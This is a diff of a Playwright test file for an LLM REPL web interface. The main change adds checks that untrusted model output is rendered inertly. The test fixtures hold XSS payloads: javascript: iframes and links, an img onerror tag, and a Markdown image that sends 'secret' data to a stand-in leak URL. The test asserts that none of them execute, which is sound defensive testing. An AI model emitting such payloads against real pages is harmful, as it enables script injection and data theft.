@@ -122,16 +122,18 @@ test('paste a context, run, watch the iterations and see the answer', async ({ p
   await expect(subcall).toHaveCount(1);
   await expect(subcall.locator('summary')).toContainText('llm_query');
   await expect(subcall.locator('summary')).toContainText('scripted-sub');
-  await subcall.locator('summary').click();
-  await expect(subcall.locator('.subcall-body')).toContainText('Find the secret code');
   await expect(page.locator('[data-total="sub-calls"] dd')).toHaveText('1');
   await expect(page.locator('[data-total="iterations"] dd')).toHaveText('2');
   await expect(page.locator('#bridge')).toContainText('JSPI bridge');
   await expect(page.locator('#form-error')).toBeHidden();
   await shot(page, testInfo, '03-laptop-light-answered');
+  await subcall.locator('summary').click();
+  await expect(subcall.locator('.subcall-body')).toContainText('Find the secret code');
+  await page.locator('#run-area').evaluate((area) => (area.scrollTop = 0));
+  await shot(page, testInfo, '03b-laptop-light-subcall-open');
 
   await page.emulateMedia({ colorScheme: 'dark' });
-  await shot(page, testInfo, '04-laptop-dark-answered');
+  await shot(page, testInfo, '04-laptop-dark-subcall-open');
   await page.setViewportSize(PHONE);
   await shot(page, testInfo, '05-phone-dark-answered');
   await page.emulateMedia({ colorScheme: 'light' });
@@ -281,7 +283,7 @@ test('model output with <img onerror> and <script> renders as text and runs noth
   lm.setScript((request) => {
     if (!isRootCall(request)) return 'unused';
     if (turnOf(request) === 0) {
-      return repl(`print(${JSON.stringify(evil)})`, `Look: ${evil}\n\n<iframe src="javascript:alert(3)"></iframe> [link](javascript:alert(4)) ![pixel](http://127.0.0.1:9/leak?data=secret)`);
+      return repl(`print(${JSON.stringify(evil)})`, `Look: ${evil}\n\n<iframe src="javascript:alert(3)"></iframe>\n\nA [link](javascript:alert(4)) and a ![pixel](http://127.0.0.1:9/leak?data=secret) in Markdown.`);
     }
     return repl(`answer["content"] = ${JSON.stringify(`Answer: ${evil}`)}\nanswer["ready"] = True`, 'Done.');
   });
@@ -300,6 +302,9 @@ test('model output with <img onerror> and <script> renders as text and runs noth
     await expect(area.locator('.cell .output').first()).toContainText('<img src=x onerror=');
     await expect(area.locator('img, script, iframe')).toHaveCount(0);
     await expect(area.locator('a[href^="javascript:"]')).toHaveCount(0);
+    // A Markdown image would fetch a URL of the model's choosing: it is a plain link instead.
+    await expect(area.locator('a[href="http://127.0.0.1:9/leak?data=secret"]')).toHaveText('pixel');
+    await expect(area.locator('.prose').first()).toContainText('<iframe src="javascript:alert(3)"></iframe>');
     expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
     expect(dialogs).toEqual([]);
   }
